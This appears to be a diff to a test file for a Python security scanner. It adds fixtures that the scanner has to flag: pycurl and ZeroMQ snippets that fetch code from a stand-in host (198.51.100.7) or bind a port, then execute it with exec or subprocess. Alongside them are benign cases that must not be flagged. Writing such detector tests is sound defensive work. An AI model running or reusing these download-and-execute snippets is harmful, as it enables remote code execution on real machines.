@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import ast
 import textwrap
+from pathlib import Path
 
 import pytest
 
@@ -20,6 +21,7 @@ from caplet._scan._model import ScanMode
 from caplet._scan._network_input import callback_data, peer_input, wraps_network
 from caplet._scan._scanner import scan_source
 from caplet._scan._syntax import Survey, survey
+from tests._scan.prefilterkit import tree_both_ways
 
 
 def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
@@ -329,3 +331,92 @@ def test_peer_input_finds_handlers_through_the_files_own_classes() -> None:
     assert {name: {methods[i] for i in ids} for name, ids in found.params.items()} == {
         "data": {"Link.data_received"}
     }
+
+
+# -- recall10: pycurl's write options and ZeroMQ's receivers ------------------------------
+#: Each passed both modes before (pycurl's body lands in a buffer or a file handed to
+#: ``setopt``, no call returns it; ZeroMQ was no network module).
+_RECALL10_ATTACKS = {
+    "pycurl-writedata-file-run": """
+    import pycurl, os, subprocess
+    f = open("/tmp/x.bin", "wb")
+    c = pycurl.Curl()
+    c.setopt(pycurl.URL, "http://198.51.100.7/x")
+    c.setopt(pycurl.WRITEDATA, f)
+    c.perform()
+    f.close()
+    os.chmod("/tmp/x.bin", 0o755)
+    subprocess.call(["/tmp/x.bin"])
+    """,
+    "pycurl-writefunction-exec": """
+    import pycurl, io
+    buf = io.BytesIO()
+    c = pycurl.Curl()
+    c.setopt(c.URL, "http://198.51.100.7/x")
+    c.setopt(c.WRITEFUNCTION, buf.write)
+    c.perform()
+    exec(buf.getvalue())
+    """,
+    "pycurl-writedata-buffer-exec": """
+    import pycurl, io
+    buf = io.BytesIO()
+    c = pycurl.Curl()
+    c.setopt(c.URL, "http://198.51.100.7/x")
+    c.setopt(c.WRITEDATA, buf)
+    c.perform()
+    exec(buf.getvalue().decode())
+    """,
+    "zmq-recv-exec": """
+    import zmq
+    s = zmq.Context().socket(zmq.SUB)
+    s.connect("tcp://198.51.100.7:5555")
+    while True:
+        exec(s.recv())
+    """,
+    "zmq-recv-string-exec": """
+    import zmq
+    s = zmq.Context().socket(zmq.REP)
+    s.bind("tcp://*:5555")
+    exec(s.recv_string())
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_RECALL10_ATTACKS))
+def test_a_transfer_written_by_pycurl_or_a_zeromq_message_run_is_a_threat(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_RECALL10_ATTACKS[shape])
+    assert danger(source) & {"CPL-THR-002", "CPL-THR-020"}
+    assert danger(source, ScanMode.PLUGIN) & {"CPL-THR-002", "CPL-THR-020"}
+    # and package mode's prefilter sends the file
+    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert filtered == whole
+    assert {r for r, _, _ in whole} & {"CPL-THR-002", "CPL-THR-020"}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a download kept as data, a message printed: nothing run
+        """
+        import pycurl, io, json
+        buf = io.BytesIO()
+        c = pycurl.Curl()
+        c.setopt(c.URL, "https://example.org/data.json")
+        c.setopt(c.WRITEDATA, buf)
+        c.perform()
+        print(json.loads(buf.getvalue()))
+        """,
+        """
+        import zmq
+        s = zmq.Context().socket(zmq.SUB)
+        s.connect("tcp://127.0.0.1:5555")
+        print(s.recv_string())
+        """,
+    ],
+    ids=["pycurl", "zmq"],
+)
+def test_a_transfer_or_a_message_that_runs_nothing_is_no_threat(source: str) -> None:
+    assert not danger(source) & {"CPL-THR-002", "CPL-THR-020"}
